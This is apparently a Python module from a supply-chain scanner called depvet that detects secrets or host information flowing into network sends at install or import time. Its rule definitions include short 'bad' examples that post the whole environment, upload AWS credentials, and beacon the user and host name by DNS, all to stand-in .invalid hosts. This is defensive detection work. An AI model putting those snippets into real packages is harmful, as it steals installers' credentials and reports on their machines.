"""Combinations: secret or host data that leaves the machine.

Each family marks what code does (credentials mark secret reads, the central tagger marks
network sends); these rules follow the data from one to the other (analysis/taint.py).
"""

from __future__ import annotations

import ast
from typing import ClassVar

from depvet.analysis.detector import Cap, Detector, Mark, PyContext
from depvet.analysis.detectors.credentials import METADATA_MARK
from depvet.analysis.taint import Taint, params_reaching
from depvet.model import Category, RunContext, Severity
from depvet.rules import Example, Rule

SECRET_EXFIL = Rule(
    id="DV901",
    name="secret-sent-over-network",
    title="Secrets or the environment are sent over the network",
    severity=Severity.CRITICAL,
    category=Category.EXFILTRATION,
    description=(
        "Data read from a credential store (SSH keys, cloud and Kubernetes credentials, .env files, "
        "browser and wallet stores, the cloud metadata endpoint) or the whole process environment "
        "flows into the payload of a network request, socket send or DNS lookup. This is what "
        "credential stealers do, the LiteLLM 1.82.8 payload and the ctx hijack among them. SDKs "
        "that read a key to sign a request do not send the key itself, and are not matched."
    ),
    bad=Example(
        path="pkg/__init__.py",
        code=(
            "import os, json, urllib.request\n"
            "blob = json.dumps(dict(os.environ)).encode()\n"
            "urllib.request.urlopen('https://collector.example.invalid/e', data=blob)\n"
        ),
    ),
    good=Example(
        path="pkg/client.py",
        code=(
            "import os, urllib.request\n\ndef call(url, body):\n"
            "    req = urllib.request.Request(url, data=body)\n"
            "    req.add_header('Authorization', 'Bearer ' + os.environ['API_TOKEN'])\n"
            "    return urllib.request.urlopen(req)\n"
        ),
    ),
    context_weighted=False,
    references=(
        "https://blog.pypi.org/posts/2026-04-02-incident-report-litellm-telnyx-supply-chain-attack/",
    ),
)
SECRETS_AND_NETWORK = Rule(
    id="DV902",
    name="secrets-and-network-at-install-or-import",
    title="Reads secrets and uses the network in code that runs on its own",
    severity=Severity.HIGH,
    category=Category.EXFILTRATION,
    description=(
        "The same module reads credentials or the whole environment and sends data over the "
        "network in code that runs at install, import or start-up time, although depvet could not "
        "follow the data from one to the other (it went through a file, a class or a library). "
        "Nothing legitimate needs to do both before anyone has called the package."
    ),
    bad=Example(
        path="pkg/__init__.py",
        code=(
            "import os, shutil, requests\n"
            "shutil.copy(os.path.expanduser('~/.aws/credentials'), '/tmp/c')\n"
            "requests.post('https://collector.example.invalid/u', files={'f': open('/tmp/c', 'rb')})\n"
        ),
    ),
    good=Example(
        path="pkg/__init__.py",
        code=(
            "import os, requests\nAPI = os.environ.get('SERVICE_URL', 'https://api.example.org')\n\n"
            "def fetch(path):\n    return requests.get(API + path, timeout=10)\n"
        ),
    ),
)
HOST_BEACON = Rule(
    id="DV903",
    name="host-information-beacon",
    title="Sends the host name, user name or platform over the network",
    severity=Severity.HIGH,
    category=Category.EXFILTRATION,
    description=(
        "Host facts (host name, user name, working directory, platform) flow into a network "
        "request or a DNS lookup in code that runs on its own. Dependency-confusion probes and "
        "the first stage of many stealers report the machine they landed on this way, often "
        "hidden in DNS queries."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import socket, getpass\nfrom setuptools import setup\n"
            "name = getpass.getuser() + '.' + socket.gethostname()\n"
            "socket.gethostbyname(name + '.probe.example.invalid')\n"
            "setup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import socket\nfrom setuptools import setup\nprint('building on', socket.gethostname())\n"
            "setup(name='x')\n"
        ),
    ),
)

_AUTOMATIC = (RunContext.STARTUP, RunContext.INSTALL, RunContext.IMPORT)


class FlowDetector(Detector):
    rules: ClassVar[tuple[Rule, ...]] = (SECRET_EXFIL, SECRETS_AND_NETWORK, HOST_BEACON)

    def on_module(self, ctx: PyContext) -> None:
        sinks = [m for m in ctx.marks_of(Cap.NETWORK_SEND) if m.payload and m.scope is not None]
        if not sinks:
            return
        secrets = [m for m in ctx.marks_of(Cap.SECRET_READ, Cap.ENV_BULK) if m.node is not None]
        if secrets and not self._flows(ctx, secrets, sinks, SECRET_EXFIL):
            self._cooccurrence(ctx, secrets, sinks)
        hosts = [m for m in ctx.marks_of(Cap.SYSINFO) if m.node is not None]
        if hosts:
            self._flows(ctx, hosts, sinks, HOST_BEACON, automatic_only=True)

    def _flows(
        self, ctx: PyContext, sources: list[Mark], sinks: list[Mark], rule: Rule, automatic_only: bool = False
    ) -> bool:
        # A request to the metadata endpoint is how its secrets are read: the request object
        # flowing into urlopen() is the read, and only what its answer flows into is a send.
        metadata = [m for m in sources if m.detail.startswith(METADATA_MARK)]
        taint = Taint(ctx.facts, frozenset(id(m.node) for m in sources if m not in metadata))
        metadata_taint = Taint(ctx.facts, frozenset(id(m.node) for m in metadata)) if metadata else None
        found = False
        for sink in sinks:
            if automatic_only and sink.context not in _AUTOMATIC:
                continue
            assert sink.scope is not None
            scope = sink.scope
            destination = _destination(sink)
            if any(taint.tainted(expr, scope) for expr in sink.payload) or (
                metadata_taint is not None
                and any(metadata_taint.tainted(e, scope) for e in sink.payload if e is not destination)
            ):
                ctx.report(rule, sink.local_line, _evidence(sources, sink), sink.context)
                found = True
        found |= self._through_parameters(ctx, taint, sources, sinks, rule, automatic_only)
        return found

    def _through_parameters(
        self,
        ctx: PyContext,
        taint: Taint,
        sources: list[Mark],
        sinks: list[Mark],
        rule: Rule,
        automatic_only: bool,
    ) -> bool:
        """``def send(d): requests.post(url, data=d)`` called as ``send(dict(os.environ))``."""
        senders: dict[str, set[int]] = {}
        for sink in sinks:
            function = sink.scope.enclosing_function() if sink.scope else None
            if function is None or not function.params:
                continue
            positions = params_reaching(ctx.facts, function, sink.payload)
            if positions:
                senders.setdefault(function.name, set()).update(positions)
        found = False
        for call in ctx.facts.calls:
            func = call.node.func
            name = (
                func.id
                if isinstance(func, ast.Name)
                else (
                    func.attr
                    if isinstance(func, ast.Attribute)
                    and isinstance(func.value, ast.Name)
                    and func.value.id in ("self", "cls")
                    else None
                )
            )
            if name not in senders:
                continue
            context = ctx.context_of(call.scope)
            if automatic_only and context not in _AUTOMATIC:
                continue
            offset = 1 if isinstance(func, ast.Attribute) else 0
            for position in senders[name]:
                index = position - offset
                if 0 <= index < len(call.node.args) and taint.tainted(call.node.args[index], call.scope):
                    ctx.report(
                        rule, call.line, f"{_sources(sources)} passed to {name}(), which sends it", context
                    )
                    found = True
        return found

    def _cooccurrence(self, ctx: PyContext, secrets: list[Mark], sinks: list[Mark]) -> None:
        auto_secrets = [m for m in secrets if m.context in _AUTOMATIC]
        auto_sinks = [m for m in sinks if m.context in _AUTOMATIC]
        if auto_secrets and auto_sinks:
            sink = auto_sinks[0]
            ctx.report(
                SECRETS_AND_NETWORK,
                sink.local_line,
                f"{_sources(auto_secrets)}; sends with {sink.detail} (line {sink.line})",
                sink.context,
            )


def _destination(sink: Mark) -> ast.expr | None:
    """The URL or request object a send goes to: its first positional argument."""
    node = sink.node
    return node.args[0] if isinstance(node, ast.Call) and node.args else None


def _sources(sources: list[Mark]) -> str:
    details = sorted({f"{m.detail} (line {m.line})" for m in sources})
    return "reads " + ", ".join(details[:3]) + (" ..." if len(details) > 3 else "")


def _evidence(sources: list[Mark], sink: Mark) -> str:
    return f"{_sources(sources)} -> sent with {sink.detail}"
